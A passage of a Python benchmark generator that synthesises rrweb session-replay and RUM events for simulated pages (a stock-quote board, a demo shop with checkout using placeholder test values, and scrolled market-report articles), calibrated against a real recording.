            for kind in kinds:
                if kind == 2:
                    self.video_t = round(rng.uniform(0, 600), 3)
                elif self.playing:
                    self.video_t = round(self.video_t + rng.uniform(1, 90), 3)
                self.playing = kind == 0 or (kind == 2 and self.playing)
                yield _INC, {"source": _MEDIA, "type": kind, "id": self.video.id, "currentTime": self.video_t,
                             "volume": 1, "muted": False, "playbackRate": 1}
        elif r < 0.82:
            card, para, body = rng.choice(self.cards)
            yield from app.goto(card)
            length = len(para.text)
            a = rng.randrange(0, max(1, length - 10))
            b = min(length, a + rng.randint(5, 60))
            yield _INC, {"source": _SEL, "ranges": [{"start": para.id, "startOffset": a, "end": para.id, "endOffset": b}]}
        else:
            card, para, body = rng.choice(self.cards)
            yield from app.click(card)
            if card.attrs["class"] == "report":
                more = E("p", {"class": "more"}, [T(" ".join(rng.choice(_WORDS) for _ in range(rng.randint(30, 70))) + ".")])
                card.attrs["class"] = "report expanded"
                adds = app.ids.adds(body, more, None)
                body.kids.append(more)
                self.remember(more)
                yield _mutation(adds=adds, attributes=[{"id": card.id, "attributes": {"class": card.attrs["class"]}}])
            else:
                more = body.kids.pop()
                card.attrs["class"] = "report"
                self.forget(more)
                yield _mutation(removes=[{"parentId": body.id, "id": more.id}],
                                attributes=[{"id": card.id, "attributes": {"class": "report"}}])
            yield app.action(card.kids[1].kids[0].kids[0].text)


# --- the "real" profile: what benchmarks/record_real.py records ------------------------------
# Calibrated against a real 10-minute recording made by rrweb's recorder in Chromium
# (benchmarks/calibrate.py prints how close): in turns, a market board whose cells are
# replaced ~900 times a second (each quote one mutation: six text nodes swapped, the
# changed cells' class), a live-search list rebuilt on every key and a chart redrawn twice a
# second; a shop (search, cart, a checkout form typed key by key, masked fields, a failing
# coupon); long articles read by scrolling. Every page is a full load (DomContentLoaded,
# Meta, FullSnapshot, Load), the RUM plugin speaks as the shim does (long tasks included).
_DCL, _LOAD = 0, 1
_REAL_ORIGIN = "http://127.0.0.1:8000"
_SYLL = ("AC", "ME", "ZO", "RA", "TI", "QU", "BE", "LO", "NI", "XO", "PA", "DE")
_SYMBOLS = tuple(_SYLL[i % 12] + _SYLL[(i * 7) % 12] + (_SYLL[(i * 5) % 12] if i > 143 else "") + f"-{i}"
                 for i in range(600))
_MARKET_WORDS = ("market shares rose fell steady quarter report growth outlook analysts expected revenue "
                 "margin investors sector energy technology retail banks yields bonds inflation rates "
                 "central policy demand supply earnings guidance volatile session traders index futures "
                 "commodity currency dollar euro forecast").split()
_BOARD_CSS = ("body { font: 13px/1.4 system-ui, sans-serif; margin: 0; color: #1d2433; background: #f6f7fb; }"
              "header { background: #1d2433; color: #fff; padding: 10px 16px; display: flex; gap: 24px; align-items: center; }"
              "header a { color: #9cc3ff; }main { display: grid; grid-template-columns: 2fr 1fr; gap: 16px; padding: 16px; }"
              "table { border-collapse: collapse; width: 100%; background: #fff; }"
              "th, td { border: 1px solid #e3e6ef; padding: 2px 6px; text-align: right; font-variant-numeric: tabular-nums; }"
              "th { background: #eef1f8; }td.up { color: #0a7f3f; background: #e9f8ef; }"
              "td.down { color: #b3261e; background: #fdecea; }#results li { padding: 2px 0; border-bottom: 1px solid #eee; list-style: none; }"
              "#results li mark { background: #ffe58a; }svg { background: #fff; border: 1px solid #e3e6ef; }")
_BROWSER = {"browser": {"name": "Chrome", "version": "140.0.0.0", "engine": "QtWebEngine 6.11.3"},
            "os": {"name": "Linux"}, "device": {"type": "desktop"}}
_USER_AGENT = ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
               "QtWebEngine/6.11.3 Chrome/140.0.0.0 Safari/537.36")


def _ws(text: str = "\n  ") -> T:
    return T(text)


class _Schedule:
    """Turns of pages, each with its share of the events and of the time, repeated once per
    ~170 s of the session (as record_real.py's rounds): which page event k belongs to, and
    the clock that spends each turn's time on its events (busy pages dense, others sparse)."""

    ROUND_MS = 170_000
    MIN_ROUND_EVENTS = 2000   # fewer rounds in a short session, so every page has its turn

    def __init__(self, n: int, duration_ms: int, turns: tuple[tuple[str, float, float], ...]):
        rounds = max(1, min(round(duration_ms / self.ROUND_MS), n // self.MIN_ROUND_EVENTS))
        self.names: list[str] = []
        self.u: list[float] = [0.0]   # cumulative event share at each turn's start (and the end)
        self.f: list[float] = [0.0]   # cumulative time share there
        for _ in range(rounds):
            for name, events, time in turns:
                self.names.append(name)
                self.u.append(self.u[-1] + events / rounds)
                self.f.append(self.f[-1] + time / rounds)
        self.u[-1] = self.f[-1] = 1.0
        self.inv = 1.0 / (n - 1) if n > 1 else 0.0
        self.n = n

    def turn_at(self, k: int) -> int:
        return max(0, bisect.bisect_right(self.u, k * self.inv) - 1) if k < self.n - 1 else len(self.names) - 1

    def start_of(self, turn: int) -> int:
        return math.ceil(self.u[turn] / self.inv) if self.inv else 0

    def time_at(self, k: int) -> float:
        u = k * self.inv
        i = min(bisect.bisect_right(self.u, u) - 1, len(self.names) - 1)
        span = self.u[i + 1] - self.u[i]
        return self.f[i] + (self.f[i + 1] - self.f[i]) * ((u - self.u[i]) / span if span else 0.0)

    def timestamps(self, duration_ms: int, start_ms: int, rng: random.Random) -> Iterator[int]:
        n = self.n
        if n <= 0:
            return
        if n == 1:
            yield start_ms
            return
        here = self.time_at(0)
        for k in range(n - 1):
            nxt = self.time_at(k + 1)
            jitter = rng.random() * 0.8 * (nxt - here) if k else 0.0   # < the spacing: order kept
            yield start_ms + int(duration_ms * (here + jitter))
            here = nxt
        yield start_ms + duration_ms


class _RealApp(_App):
    """The driver of the real profile: turns of board, shop and article (see `_Schedule`)."""

    MOVE_POSITIONS = (1, 4)
    TURNS = (("board", 0.935, 0.34), ("shop", 0.058, 0.48), ("article", 0.007, 0.18))

    def __init__(self, rng: random.Random, start_ms: int, n_events: int, schedule: _Schedule):
        super().__init__(rng, start_ms, n_events)
        self.width, self.height = 1280, 800
        self.schedule = schedule
        self.article_no = 0
        self.page_seed = rng.getrandbits(32)
        self.loaded = False

    def _alive(self, node: E) -> bool:
        return True   # only fixed inputs are ever focused here

    def run(self) -> Iterator[tuple[int, Raw]]:
        turn = -1
        stream: Iterator = iter(())
        while True:
            t = self.schedule.turn_at(self.k)
            if t != turn and (turn < 0 or self.loaded):   # a page load is never cut short
                turn = t
                stream = self.turn(self.schedule.names[t], self.schedule.start_of(t + 1)
                                   if t + 1 < len(self.schedule.names) else self.n)
            yield next(stream)

    def turn(self, name: str, end_k: int) -> Iterator:
        if name == "board":
            yield from self.visit(_Board(self))
        elif name == "shop":
            split = self.k + (end_k - self.k) * 2 // 5   # the shop's home page, then checkout
            yield from self.visit(_Shop(self, checkout=False), until_k=split)
            yield from self.visit(_Shop(self, checkout=True))
        else:
            split = self.k + (end_k - self.k) * 4 // 5   # report n, then n + 1 (read again next round)
            self.article_no += 1
            yield from self.visit(_Article(self, self.article_no), until_k=split)
            yield from self.visit(_Article(self, self.article_no + 1))

    def visit(self, scene: "_Scene", until_k: int | None = None) -> Iterator:
        """A full page load, then the scene's actions (until event `until_k`, or forever)."""
        rng = self.rng
        self.loaded = False
        self.ids = _Ids()
        self.focused = None
        self.page = scene
        self.url = f"{_REAL_ORIGIN}/{scene.path}"
        self.view_id = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(16))
        yield _DCL, {}
        yield _META, {"href": self.url, "width": self.width, "height": self.height}
        html = scene.build()
        scene.root = E("#doc")
        scene.root.id = self.ids.next
        self.ids.next += 1
        doctype = self.ids.next
        self.ids.next += 1
        yield _FULL, {"node": {"type": 0, "childNodes": [
            {"type": 1, "name": "html", "publicId": "", "systemId": "", "id": doctype},
            self.ids.serialize(html)], "id": scene.root.id}, "initialOffset": {"left": 0, "top": 0}}
        yield self.rum_real("view", {"id": self.view_id, "url": self.url, "referrer": None}, dated=False,
                            **_BROWSER, display={"viewport": {"width": self.width, "height": self.height},
                                                 "screen": {"width": 800, "height": 800}},
                            user_agent=_USER_AGENT)
        yield self.long_task()
        yield _LOAD, {}
        yield self.rum_real("resource", {"url": self.url, "method": "GET", "status_code": 200,
                                         "duration": round(rng.uniform(5, 250), 1),
                                         "size": rng.randint(2000, 9000), "type": "document"})
        self.loaded = True
        while until_k is None or self.k < until_k:
            yield from scene.act()

    # --- what the RUM shim and rrweb send ---------------------------------------------------
    def rum_real(self, kind: str, body: Raw, dated: bool = True, **extra: Any) -> tuple[int, Raw]:
        payload: Raw = {"type": kind}
        if dated:
            payload["date"] = self.now - int(self.rng.random() * 400)
        payload[kind] = body
        payload.update(extra)
        return _PLUGIN, {"plugin": RUM_PLUGIN, "payload": payload}

    def long_task(self) -> tuple[int, Raw]:
        return self.rum_real("long_task", {"duration": int(self.rng.lognormvariate(4.4, 0.5))})

    def view_update(self) -> tuple[int, Raw]:
        rng = self.rng
        return self.rum_real("view", {"id": self.view_id, "url": self.url,
                                      "largest_contentful_paint": round(rng.lognormvariate(6, 0.5), 1),
                                      "cumulative_layout_shift": round(rng.expovariate(20), 4)})

    def act_click(self, node: E, name: str) -> tuple[int, Raw]:
        return self.rum_real("action", {"type": "click", "target": {"name": name, "selector": f"{node.tag}#{node.attrs.get('id', '')}"},
                                        "position": {"x": self.x, "y": self.y}})

    def key(self, node: E, text: str) -> tuple[int, Raw]:
        return _INC, {"source": _INPUT, "text": text, "isChecked": False, "id": node.id}

    def scroll_to(self, y: int) -> tuple[int, Raw]:
        return _INC, {"source": _SCROLL, "id": 1, "x": 0, "y": max(0, y)}


class _Scene:
    """A page of the real profile. `rng` is the visitor (the session's generator); `script`
    is the page's own seeded script, the same on every visit of the page, as in
    record_real.py's pages: a page repeats its content and its changes from round to round,
    which is much of why the real recording compresses as it does."""
    path = ""
    root: E

    def __init__(self, app: _RealApp, page: str):
        self.app = app
        self.rng = app.rng
        self.script: random.Random | _Lcg = random.Random(f"{app.page_seed}:{page}")
        self.hover: list[E] = []

    def build(self) -> E:
        raise NotImplementedError

    def act(self) -> Iterator:
        raise NotImplementedError

    def page(self, title: str, css: str, body: list) -> E:
        head = E("head", {}, [_ws("\n"), E("meta", {"charset": "utf-8"}), _ws("\n"),
                              E("title", {}, [T(title)]), _ws("\n"), E("style", {}, [T(css, style=True)]), _ws("\n")])
        script = E("script", {}, [T("SCRIPT_PLACEHOLDER")])
        return E("html", {"lang": "en"}, [head, _ws("\n"), E("body", {}, [_ws("\n")] + body + [
            _ws("\n"), script, _ws("\n\n\n")])])


class _Lcg:
    """The stress page's own PRNG, computed as its JavaScript does: in doubles, where
    `seed * 1103515245` overflows 53 bits and rounds. That makes a poor generator whose
    picks repeat in patterns a compressor finds — part of what the real recording's
    figures are made of, so it is copied exactly (with the page's seed)."""

    PAGE_SEED = 12345.0

    def __init__(self) -> None:
        self.seed = self.PAGE_SEED

    def random(self) -> float:
        self.seed = (self.seed * 1103515245.0 + 12345.0) % 2147483648.0
        return self.seed / 2147483648.0


class _Board(_Scene):
    """benchmarks/real_pages/stress.html."""
    path = "stress.html"
    ROWS, COLS, HITS = 40, 12, 80

    def __init__(self, app: _RealApp):
        super().__init__(app, self.path)
        self.script = _Lcg()

    def build(self) -> E:
        rng = self.script
        self.clock = E("span", {"id": "clock"}, [T("--:--:--")])
        self.tbody = E("tbody", {}, [])
        self.cells: list[list] = []   # [td, value, class]
        self.rows: list[E] = []
        for r in range(self.ROWS):
            tds = []
            for _ in range(self.COLS):
                v = 100 + rng.random() * 50
                td = E("td", {}, [T(f"{v:.2f}")])
                self.cells.append([td, v, ""])
                tds.append(td)
            tr = E("tr", {}, [E("th", {}, [T(_SYMBOLS[r])])] + tds, box=(16, 120 + 22 * r, 820, 20))
            self.rows.append(tr)
            self.tbody.kids.append(tr)
        head = E("tr", {}, [E("th", {}, [T("Symbol")])] + [E("th", {}, [T(f"T{c}")]) for c in range(self.COLS)])
        self.q = E("input", {"id": "q", "type": "search", "autocomplete": "off", "placeholder": "e.g. ACME"},
                   box=(900, 30, 200, 24))
        self.count = E("p", {"id": "count"}, [T(f"{self.HITS} shown")])
        self.results = E("ul", {"id": "results"}, [])
        self.search_value = ""
        self._fill_results(self._hits(""))
        self.line = E("polyline", {"id": "line", "fill": "none", "stroke": "#3367d6", "stroke-width": "2",
                                   "points": ""}, svg=True)
        self.bars = E("g", {"id": "bars"}, svg=True)
        self.series = [90.0] * 60
        self.chart = E("svg", {"id": "chart", "width": "360", "height": "180", "viewBox": "0 0 360 180"},
                       [_ws("\n      "), self.line, _ws("\n      "), self.bars, _ws("\n    ")], box=(880, 600, 360, 180), svg=True)
        self.hover = [self.q, self.count, self.chart] + self.rows
        self.timers = self._timers()
        return self.page("Market board (stress page)", _BOARD_CSS, [
            E("header", {}, [E("strong", {}, [T("Market board")]), T(" "), self.clock, _ws("\n  "),
                             E("a", {"id": "to-article", "href": "article.html?n=1"}, [T("Read the market report")])]),
            _ws("\n"),
            E("main", {}, [_ws(), E("section", {}, [_ws("\n    "), E("table", {"id": "board"}, [
                E("thead", {}, [head]), self.tbody]), _ws()]), _ws(),
                E("aside", {}, [_ws("\n    "), E("label", {"for": "q"}, [T("Search instruments")]), E("br"), _ws("\n    "),
                                self.q, _ws("\n    "), self.count, _ws("\n    "), self.results, _ws("\n    "),
                                self.chart, _ws()]), _ws("\n")]),
        ])

    def _hits(self, s: str) -> list[str]:
        return [n for n in _SYMBOLS if not s or s in n][: self.HITS]

    def _li(self, name: str, s: str) -> E:
        i = name.find(s) if s else -1
        kids = [T(name)] if i < 0 else [T(name[:i]), E("mark", {}, [T(name[i:i + len(s)])]), T(name[i + len(s):])]
        return E("li", {"title": f"Instrument {name}"}, kids)

    def _fill_results(self, hits: list[str]) -> None:
        self.results.kids = [self._li(n, self.search_value) for n in hits]

    def act(self) -> Iterator:
        app = self.app
        r = self.rng.random()
        if r < 0.0045:
            yield from app.goto(self.rng.choice(self.hover))
        elif r < 0.0055:
            yield app.scroll_to(self.rng.choice((0, 300, 600, 900)))
        elif r < 0.0085:
            yield app.long_task()
        elif r < 0.0093:
            yield app.view_update()
        elif r < 0.0096:
            yield from self.search()
        else:
            yield next(self.timers)

    def _timers(self) -> Iterator[tuple[int, Raw]]:
        """The page's own timers: every 200 ms the clock and thirty quotes, every 500 ms the
        chart — 157 changes a second. Where the chart falls among the quotes depends on the
        browser's timing (the visitor's generator), and shifts the page's PRNG: so visits
        repeat each other only in stretches, as the real ones do."""
        while True:
            mid = int(self.rng.random() * 30)
            for t in range(5):
                yield self.tick()
                for q in range(30):
                    yield self.quote()
                    if t == 2 and q == mid:
                        yield self.draw()
            yield self.draw()

    def _swap_text(self, parent: E, text: str, removes: list, adds: list) -> None:
        old = parent.kids[0]
        new = T(text)
        new.id = self.app.ids.next
        self.app.ids.next += 1
        parent.kids = [new]
        removes.append({"parentId": parent.id, "id": old.id})
        adds.append({"parentId": parent.id, "nextId": None, "node": {"type": 3, "textContent": text, "id": new.id}})

    def quote(self) -> tuple[int, Raw]:
        """Six cells get a new price: each text node replaced, a changed class recorded."""
        rng = self.script
        picked: dict[int, list] = {}
        for _ in range(6):
            cell = self.cells[int(rng.random() * len(self.cells))]
            picked[id(cell)] = cell
        removes: list = []
        adds: list = []
        attrs: list = []
        for cell in picked.values():
            td, old, cls = cell
            v = old + (rng.random() - 0.5) * 2
            cell[1] = v
            self._swap_text(td, f"{v:.2f}", removes, adds)
            new_cls = "up" if v >= old else "down"
            if new_cls != cls:
                cell[2] = new_cls
                td.attrs["class"] = new_cls
                attrs.append({"id": td.id, "attributes": {"class": new_cls}})
        return _mutation(adds=adds, removes=removes, attributes=attrs)

    def tick(self) -> tuple[int, Raw]:
        """The clock; one time in ten a row moves to the bottom (its nodes keep their ids)."""
        removes: list = []
        adds: list = []
        self._swap_text(self.clock, _clock(self.app.now), removes, adds)
        if self.script.random() < 0.1:
            tr = self.rows.pop(int(self.script.random() * len(self.rows)))
            self.rows.append(tr)
            self.tbody.kids.remove(tr)
            self.tbody.kids.append(tr)
            removes.insert(0, {"parentId": self.tbody.id, "id": tr.id})
            adds.extend(self.app.ids.adds(self.tbody, tr, None, assign=False))
        return _mutation(adds=adds, removes=removes)

    def draw(self) -> tuple[int, Raw]:
        """The chart: a new point on the line, the twelve bars replaced."""
        rng = self.script
        s = self.series
        s.pop(0)
        s.append(max(5.0, min(175.0, s[-1] + (rng.random() - 0.5) * 30)))
        points = " ".join(f"{i * 6},{y:.1f}" for i, y in enumerate(s))
        self.line.attrs["points"] = points
        removes = [{"parentId": self.bars.id, "id": b.id} for b in reversed(self.bars.kids)]
        bars = [E("rect", {"x": str(i * 30), "y": f"{180 - y / 3:.1f}", "width": "20", "height": f"{y / 3:.1f}",
                           "fill": "#c5d5f5"}, svg=True) for i, y in enumerate(s[-12:])]
        ids = self.app.ids
        for b in bars:
            ids.assign(b)
        adds: list = []
        for i in range(len(bars) - 1, -1, -1):   # last first, as rrweb orders sibling adds
            adds.extend(ids.adds(self.bars, bars[i], bars[i + 1].id if i + 1 < len(bars) else None, assign=False))
        self.bars.kids = bars
        return _mutation(adds=adds, removes=removes, attributes=[{"id": self.line.id, "attributes": {"points": points}}])

    def search(self) -> Iterator:
        """Click the search box and type: the result list is rebuilt on every key."""
        app = self.app
        rng = self.rng
        yield from app.click(self.q, focusable=True)
        word = rng.choice(("ACQU", "ZO", "RA-1", "LO", "-2", "TI", "QUNI", "BE"))
        value = ""
        for ch in word:
            value += ch
            yield app.key(self.q, value)
            yield self.rebuild(value)
            if len(value) == 3:
                yield app.console("log", "search", value, len(self._hits(value)), depth=1)
        yield app.act_click(self.q, "Search instruments")

    def rebuild(self, value: str) -> tuple[int, Raw]:
        ids = self.app.ids
        removes = [{"parentId": self.results.id, "id": li.id} for li in self.results.kids]
        hits = self._hits(value)
        self.search_value = value
        self._fill_results(hits)
        lis = self.results.kids
        for li in lis:
            ids.assign(li)
        adds: list = []
        for i in range(len(lis) - 1, -1, -1):
            adds.extend(ids.adds(self.results, lis[i], lis[i + 1].id if i + 1 < len(lis) else None, assign=False))
        self._swap_text(self.count, f"{len(hits)} shown", removes, adds)
        return _mutation(adds=adds, removes=removes)


_SHOP_CSS = (":root{--ink:#1f2430;--muted:#6b7280;--accent:#7c3aed;--line:#e5e7eb}"
             "body{margin:0;font:15px/1.5 system-ui,-apple-system,'Segoe UI',sans-serif;color:var(--ink)}"
             "header.top{display:flex;align-items:center;gap:16px;padding:12px 24px;border-bottom:1px solid var(--line)}"
             "#search{flex:1;padding:8px 12px;border:1px solid var(--line);border-radius:8px}"
             ".grid{display:grid;grid-template-columns:repeat(4,1fr);gap:18px;padding:24px}"
             ".product{border:1px solid var(--line);border-radius:12px;padding:12px}"
             ".product .art{height:120px;border-radius:8px}.product .name{font-weight:600;margin:8px 0 2px}"
             ".product .price{color:var(--accent);font-weight:700}.add{width:100%;margin-top:8px}"
             ".drawer{position:fixed;right:0;top:0;bottom:0;width:360px;background:#fff;box-shadow:-8px 0 24px rgba(0,0,0,.12)}"
             "form.checkout{display:grid;grid-template-columns:1fr 1fr;gap:12px 20px;max-width:720px;margin:24px auto}"
             "form.checkout label{display:flex;flex-direction:column;font-size:13px;color:var(--muted)}"
             "form.checkout input{padding:9px 11px;border:1px solid var(--line);border-radius:8px;font:inherit}"
             ".summary .line{display:flex;justify-content:space-between;padding:6px 0;border-bottom:1px dashed var(--line)}"
             ".error{color:#b91c1c}.pill{display:inline-block;padding:2px 10px;border-radius:999px;background:#ede9fe}") * 3
_SHOP_PRODUCTS = ("Desk lamp", "Ceramic mug", "Linen notebook", "Walnut tray", "Glass carafe", "Wool throw",
                  "Brass pen", "Oak coaster set", "Table clock", "Plant pot", "Wall print", "Travel mug")
_SHOP_FIELDS = (("full-name", "Jane Doe", False), ("email", "jane.doe@example.com", True),
                ("phone", "+1 555 0100", True), ("address", "42 Example Street", False),
                ("city", "Springfield", False), ("card", "4242 4242 4242 4242", True),
                ("expiry", "12 / 29", True), ("cvc", "123", True), ("password", "not-a-real-password", True),
                ("coupon", "SPRING10", False), ("notes", "Please leave it with the neighbour", False))


class _Shop(_Scene):
    """The demo shop (assets/demo/pages): its home page or its checkout."""

    def __init__(self, app: _RealApp, checkout: bool):
        self.path = "checkout.html" if checkout else "index.html"
        super().__init__(app, self.path)
        self.checkout = checkout
        self.next_field = 0

    def _card(self, i: int) -> E:
        rng = self.script
        name = _SHOP_PRODUCTS[i % len(_SHOP_PRODUCTS)]
        add = E("button", {"class": "add", "data-id": str(i)}, [T("Add to cart")], box=(40 + 300 * (i % 4), 420 + 260 * (i // 4), 260, 32))
        self.adds.append(add)
        return E("article", {"class": "product", "id": f"product-{i}"}, [
            _ws("\n      "), E("div", {"class": "art", "style": f"background: linear-gradient(135deg, hsl({rng.randint(0, 359)} 70% 80%), hsl({rng.randint(0, 359)} 60% 60%));"}),
            _ws("\n      "), E("h3", {"class": "name"}, [T(name)]),
            _ws("\n      "), E("p", {"class": "desc"}, [T(" ".join(rng.choice(_MARKET_WORDS) for _ in range(rng.randint(8, 16))))]),
            _ws("\n      "), E("span", {"class": "price"}, [T(f"${rng.randint(8, 120)}.{rng.choice(('00', '50', '99'))}")]),
            _ws("\n      "), add, _ws("\n    ")], box=(40 + 300 * (i % 4), 200 + 260 * (i // 4), 260, 250))

    def build(self) -> E:
        self.adds: list[E] = []
        self.search = E("input", {"id": "search", "type": "search", "placeholder": "Search products"}, box=(300, 14, 500, 32))
        self.cart_count = E("span", {"class": "pill"}, [T("0")])
        self.cart_btn = E("button", {"id": "open-cart"}, [T("Cart "), self.cart_count], box=(1100, 14, 90, 32))
        self.grid = E("section", {"class": "grid"}, [])
        self.fields: list[tuple[E, str, bool]] = []
        top = E("header", {"class": "top"}, [E("a", {"href": "index.html", "class": "logo"}, [T("Acme Shop")]), _ws(), self.search, _ws(), self.cart_btn])
        if not self.checkout:
            self.cards = [self._card(i) for i in range(12)]
            self.grid.kids = list(self.cards)
            self.hover = [self.search, self.cart_btn] + self.cards + self.adds
            body = [top, _ws(), E("main", {}, [E("h1", {}, [T("Things for a calm desk")]), self.grid]),
                    E("aside", {"id": "reco"}, [E("div", {"class": "item"}, [T(p)]) for p in _SHOP_PRODUCTS[:6]])]
        else:
            labels = []
            for i, (fid, _, masked) in enumerate(_SHOP_FIELDS):
                inp = E("input", {"id": fid, "name": fid, "type": "password" if fid == "password" else "text",
                                  "autocomplete": "cc-number" if fid == "card" else fid}, box=(300 + 360 * (i % 2), 160 + 60 * (i // 2), 320, 36))
                self.fields.append((inp, _SHOP_FIELDS[i][1], masked))
                labels += [_ws("\n      "), E("label", {"for": fid}, [T(fid.replace("-", " ").capitalize()), inp])]
            self.terms = E("input", {"id": "terms", "type": "checkbox"}, box=(300, 560, 18, 18))
            self.apply = E("button", {"id": "apply-coupon", "type": "button"}, [T("Apply coupon")], box=(700, 520, 120, 32))
            self.place = E("button", {"id": "place-order"}, [T("Place order")], box=(300, 620, 160, 40))
            self.total = E("strong", {}, [T("$64.50")])
            self.summary = E("div", {"class": "summary", "id": "summary-lines"}, [
                E("div", {"class": "line"}, [E("span", {}, [T(p)]), E("span", {}, [T(f"${8 + 3 * i}.50")])]) for i, p in enumerate(_SHOP_PRODUCTS[:4])
            ] + [E("div", {"class": "line total"}, [T("Total "), self.total])])
            self.hover = [f[0] for f in self.fields] + [self.terms, self.apply, self.place, self.summary]
            body = [top, _ws(), E("main", {}, [E("h1", {}, [T("Checkout")]),
                                               E("form", {"class": "checkout", "novalidate": ""}, labels + [self.terms, self.apply, self.place]),
                                               self.summary])]
        return self.page("Acme Shop" + (" — checkout" if self.checkout else ""), _SHOP_CSS, body)

    def act(self) -> Iterator:
        app = self.app
        rng = self.rng
        r = rng.random()
        if r < 0.22:
            yield from app.goto(rng.choice(self.hover))
        elif r < 0.30:
            yield app.scroll_to(rng.choice((0, 120, 460, 800)))
        elif r < 0.44:
            yield app.long_task()
        elif r < 0.50:
            yield app.console(rng.choice(("log", "info", "warn")), f"[shop] {rng.choice(_MARKET_WORDS)} {rng.randint(1, 999)}", depth=2)
        elif r < 0.55:
            yield app.rum_real("resource", {"url": f"{_REAL_ORIGIN}/api/{rng.choice(('products', 'cart', 'reco', 'stock'))}",
                                            "method": "GET", "status_code": 200, "duration": round(rng.uniform(3, 1900), 1),
                                            "size": rng.randint(80, 6000), "type": "fetch"})
        elif self.checkout:
            yield from self.checkout_act(r)
        else:
            yield from self.home_act(r)

    def home_act(self, r: float) -> Iterator:
        app = self.app
        rng = self.rng
        if r < 0.85:
            btn = rng.choice(self.adds)
            yield from app.click(btn)
            n = str(int(self.cart_count.kids[0].text) + 1)
            removes: list = []
            adds: list = []
            old = self.cart_count.kids[0]
            new = T(n)
            app.ids.assign(new)
            self.cart_count.kids = [new]
            removes.append({"parentId": self.cart_count.id, "id": old.id})
            adds.append({"parentId": self.cart_count.id, "nextId": None, "node": {"type": 3, "textContent": n, "id": new.id}})
            yield _mutation(adds=adds, removes=removes)
            yield app.act_click(btn, "Add to cart")
            yield app.rum_real("resource", {"url": f"{_REAL_ORIGIN}/api/cart", "method": "POST", "status_code": 201,
                                            "duration": round(rng.uniform(3, 80), 1), "size": rng.randint(40, 300), "type": "fetch"})
        else:
            yield from app.click(self.search, focusable=True)
            word = rng.choice(("lamp", "mug", "tray", "oak"))
            for i in range(1, len(word) + 1):
                yield app.key(self.search, word[:i])
                keep = [c for c in self.cards if word[:i] in c.kids[3].kids[0].text.lower()] or self.cards[:1]
                removes = [{"parentId": self.grid.id, "id": c.id} for c in self.grid.kids]
                fresh = [self._card(self.cards.index(c)) for c in keep]
                for c in fresh:
                    app.ids.assign(c)
                adds: list = []
                for j in range(len(fresh) - 1, -1, -1):
                    adds.extend(app.ids.adds(self.grid, fresh[j], fresh[j + 1].id if j + 1 < len(fresh) else None, assign=False))
                self.grid.kids = fresh
                yield _mutation(adds=adds, removes=removes)

    def checkout_act(self, r: float) -> Iterator:
        app = self.app
        rng = self.rng
        if r < 0.86:   # the form, field after field
            inp, value, masked = self.fields[self.next_field % len(self.fields)]
            self.next_field += 1
            yield from app.click(inp, focusable=True)
            typed = ""
            for ch in value:
                typed += ch
                yield app.key(inp, "*" * len(typed) if masked else typed)
        elif r < 0.92:
            yield from app.click(self.apply)
            yield app.rum_real("resource", {"url": f"{_REAL_ORIGIN}/api/coupon", "method": "POST", "status_code": 500,
                                            "duration": round(rng.uniform(3, 80), 1), "size": 0, "type": "fetch"})
            yield app.console("error", "coupon failed:", 500, "The coupon service did not answer", depth=1)
            yield app.rum_real("error", {"message": f"POST {_REAL_ORIGIN}/api/coupon failed with status 500", "source": "network",
                                         "stack": None, "type": "HTTPError",
                                         "resource": {"url": f"{_REAL_ORIGIN}/api/coupon", "method": "POST", "status_code": 500}},
                               dated=False)
            yield app.act_click(self.apply, "Apply coupon")
        elif r < 0.96:
            yield from app.click(self.terms)
            yield _INC, {"source": _INPUT, "text": "on", "isChecked": rng.random() < 0.5, "id": self.terms.id}
        else:
            old = self.total.kids[0]
            new = T(f"${rng.randint(20, 200)}.50")
            app.ids.assign(new)
            self.total.kids = [new]
            yield _mutation(removes=[{"parentId": self.total.id, "id": old.id}],
                            adds=[{"parentId": self.total.id, "nextId": None,
                                   "node": {"type": 3, "textContent": new.text, "id": new.id}}])


class _Article(_Scene):
    """benchmarks/real_pages/article.html: a long report, read by scrolling."""

    def __init__(self, app: _RealApp, n: int):
        self.path = f"article.html?n={n}"
        super().__init__(app, self.path)
        self.n = n
        self.y = 0

    def _sentence(self) -> str:
        rng = self.script
        s = " ".join(rng.choice(_MARKET_WORDS) for _ in range(8 + int(rng.random() * 14)))
        return s[0].upper() + s[1:] + "."

    def _para(self) -> str:
        return " ".join(self._sentence() for _ in range(3 + int(self.script.random() * 5)))

    def build(self) -> E:
        kids: list = [E("h1", {}, [T(f"Market report no. {self.n}")]), E("p", {}, [E("em", {}, [T(self._sentence())])])]
        for sec in range(1, 13):
            kids.append(E("h2", {"id": f"s{sec}"}, [T(self._sentence()[:40])], box=(200, 300 * sec, 600, 30)))
            kids += [E("p", {}, [T(self._para())]) for _ in range(6)]
            if sec % 3 == 0:
                kids.append(E("blockquote", {}, [T(self._para())]))
            if sec % 4 == 0:
                kids.append(E("figure", {}, [E("svg", {"width": "600", "height": "120"}, [
                    E("rect", {"width": "600", "height": "120", "fill": "#eef"}, svg=True),
                    E("text", {"x": "10", "y": "60"}, [T(f"Figure {sec}")], svg=True)], svg=True),
                    E("figcaption", {}, [T(self._sentence())])]))
        self.next = E("a", {"id": "next", "href": f"article.html?n={self.n + 1}"}, [T("Next report")], box=(300, 20, 100, 20))
        self.hover = [self.next] + [k for k in kids if k.tag == "h2"]
        css = ("body { font: 17px/1.6 Georgia, serif; max-width: 46em; margin: 0 auto; padding: 24px; color: #222; }"
               "h1 { font-size: 2em; } h2 { margin-top: 2em; }figure { margin: 1.5em 0; } figcaption { font-size: .85em; color: #666; }"
               "nav a { margin-right: 1em; }blockquote { border-left: 4px solid #ccc; margin-left: 0; padding-left: 1em; color: #555; }")
        return self.page(f"Market report no. {self.n}", css, [
            E("nav", {}, [E("a", {"href": "stress.html"}, [T("Board")]), self.next]), _ws("\n"),
            E("article", {"id": "article"}, kids)])

    def act(self) -> Iterator:
        app = self.app
        r = self.rng.random()
        if r < 0.55:
            self.y = self.y + 250 if self.y < 6000 else 0
            yield app.scroll_to(self.y)
        elif r < 0.80:
            yield app.long_task()
        elif r < 0.92:
            yield from app.goto(self.rng.choice(self.hover))
        else:
            yield app.view_update()


# --- the public API -----------------------------------------------------------------------------
DEFAULT_PROFILE = "default"
PROFILES = {
    DEFAULT_PROFILE: "the Acme Ops app: a mix of every kind of event, quiet stretches",
    "real": "calibrated on benchmarks/record_real.py's recording: a market board replacing "
            "~900 cells a second, a shop, long articles; no quiet stretch",
